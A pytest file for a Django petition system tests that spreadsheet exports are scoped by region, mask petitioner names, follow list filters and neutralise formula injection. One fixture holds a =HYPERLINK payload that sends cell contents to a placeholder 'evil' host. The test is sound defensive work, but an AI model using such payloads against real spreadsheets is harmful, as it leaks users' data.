import io

import openpyxl
import pytest
from django.urls import reverse

from tests.petitions.helpers import new_petition, person

pytestmark = pytest.mark.django_db


def test_petition_export_is_scoped_masked_and_neutralised(client, demo):
    new_petition(
        demo["xianjin_petition_clerk"], region="330681109219",
        summary='=HYPERLINK("http://evil/?"&A1,"点我")', petitioners=[person("王小明")],
    )  # fmt: skip
    new_petition(demo["jiangdong_petition_clerk"], region="330681001001", summary="江东社区的信访")
    client.force_login(demo["fengqiao_handler"])
    response = client.get(reverse("petitions:export"))
    assert response.status_code == 200 and "no-store" in response["Cache-Control"]
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert sheet["A1"].value == "案件编号" or sheet["B1"].value
    values = [[c.value for c in row] for row in sheet.iter_rows(min_row=2)]
    assert len(values) == 1  # 江东社区 lies in another town
    assert values[0][1].startswith("'=HYPERLINK")
    assert values[0][2] == "王*明"  # a handler sees names masked, as on the page
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


def test_export_follows_the_list_filters(client, demo):
    clerk = demo["zhuji_petition_clerk"]
    new_petition(clerk, channel="visit", summary="来访一件")
    new_petition(clerk, channel="letter", summary="来信一件")
    client.force_login(clerk)
    sheet = openpyxl.load_workbook(
        io.BytesIO(client.get(reverse("petitions:export"), {"channel": "visit"}).content)
    ).active
    assert [row[1].value for row in sheet.iter_rows(min_row=2)] == ["来访一件"]
